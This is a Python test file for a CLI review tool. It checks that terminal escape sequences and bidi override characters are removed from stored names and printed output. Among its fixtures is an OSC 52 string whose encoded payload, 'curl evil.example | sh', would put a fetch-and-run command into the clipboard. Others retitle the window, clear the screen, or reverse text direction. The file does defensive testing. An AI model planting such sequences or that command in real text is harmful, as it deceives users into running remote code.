"""Names and labels never carry terminal escapes or bidi overrides (issue 14 items 6 and 7).

Cleaned when they enter the database, and again whenever the CLI prints anything.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from cxreview.hygiene import clean_name, clean_text
from cxreview.rubrics import resolve_rubric
from cxreview.store import open_database
from tests.conftest import REPO, conversation

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh" into the clipboard
OSC0 = "\x1b]0;pwned\x07"  # retitles the window
CSI = "\x1b[2J\x1b[31m"  # clears the screen, turns red
C1 = "\x9b31m"  # the one-byte CSI
RLO = "\u202e"
HOSTILE = [OSC52, OSC0, CSI, C1, RLO, "\u2066", "\u2069"]
DANGER = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069")


def _clean_output(text: str) -> None:
    for char in DANGER:
        assert char not in text, f"{char!r} reached the terminal: {text!r}"


@pytest.fixture
def imported(run_cli, write_jsonl) -> None:  # type: ignore[no-untyped-def]
    assert run_cli("import", "-q", str(write_jsonl([conversation(f"c{i}") for i in range(4)]))).exit_code == 0


def test_session_and_reviewer_names_are_cleaned_on_entry(run_cli, imported, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    name = f"team{OSC52}{RLO}week"
    result = run_cli("sample", "--size", "2", "--name", name, "--reviewer", f"bob{OSC0}", "--reviewer", f"{CSI}ana")
    assert result.exit_code == 0, result.output
    _clean_output(result.output)
    with open_database(db_path) as db:
        assert [r[0] for r in db.query("SELECT name FROM sessions")] == ["teamweek"]
        assert sorted({r[0] for r in db.query("SELECT reviewer FROM session_items")}) == ["ana", "bob"]


def test_reviewer_of_a_review_is_cleaned(db_path: Path, run_cli, imported) -> None:  # type: ignore[no-untyped-def]
    from cxreview.reviews import start_review

    with open_database(db_path) as db:
        review = start_review(db, "c1", f"eve{OSC0}\u2066x\u2069", resolve_rubric("default"))
        assert review.reviewer == "evex"


def test_rubric_labels_are_cleaned_and_rubric_show_prints_none(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    text = (REPO / "rubrics" / "default.yaml").read_text(encoding="utf-8")
    # YAML refuses raw control characters but its double-quoted escapes make them.
    hostile = text.replace("label: Empathy", 'label: "Emp\\e]52;c;Y3VybA==\\aathy\\u202E"', 1)
    assert hostile != text
    path = tmp_path / "team.yaml"
    path.write_text(hostile, encoding="utf-8")
    rubric = resolve_rubric(str(path))
    assert rubric.criteria[0].label == "Empathy"
    result = run_cli("rubric", "show", str(path))
    assert result.exit_code == 0 and "Empathy" in result.output
    _clean_output(result.output)


def test_values_already_in_the_database_are_cleaned_at_output(run_cli, imported, db_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Data written before the fix (or by another tool) still never reaches a terminal raw."""
    assert run_cli("sample", "--size", "2", "--name", "plain", "--reviewer", "bob").exit_code == 0
    with open_database(db_path) as db:
        db.execute("UPDATE sessions SET name = ?", (f"s{OSC52}{RLO}",))
        db.execute("UPDATE session_items SET reviewer = ?", (f"bob{OSC0}",))
        db.execute("UPDATE conversations SET agent = ?, queue = ?", (f"Sanne{CSI}", f"q{C1}"))
    outputs = [
        run_cli("sessions"),
        run_cli("sessions", "show", f"s{OSC52}{RLO}"),
        run_cli("sessions", "show", f"nosuch{OSC52}"),  # the error quotes the name
        run_cli("export", "--level", "conversation"),
        run_cli("export", "--level", "conversation", "--format", "jsonl"),
        run_cli("insights", "--format", "json"),
        run_cli("insights"),
    ]
    for result in outputs:
        _clean_output(result.output)
    assert "Sanne" in outputs[3].output


def test_bidi_controls_are_removed_from_names_and_shown_in_text() -> None:
    assert clean_name(f"Ana{RLO}lleb\u2066x\u2069") == "Analleb" + "x"
    assert clean_text(f"price {RLO}001€") == "price <U+202E>001€"
    assert clean_name(f" two\nlines\there{OSC0} ") == "two lines here"


def test_bidi_in_message_text_is_stored_visibly(db_path: Path, write_jsonl, run_cli) -> None:  # type: ignore[no-untyped-def]
    record = conversation("b1", agent=f"Sa{RLO}nne", messages=[{"role": "customer", "text": f"pay {RLO}0001"}])
    assert run_cli("import", "-q", str(write_jsonl([record]))).exit_code == 0
    with open_database(db_path) as db:
        assert db.scalar("SELECT text FROM messages WHERE conversation_id = 'b1'") == "pay <U+202E>0001"
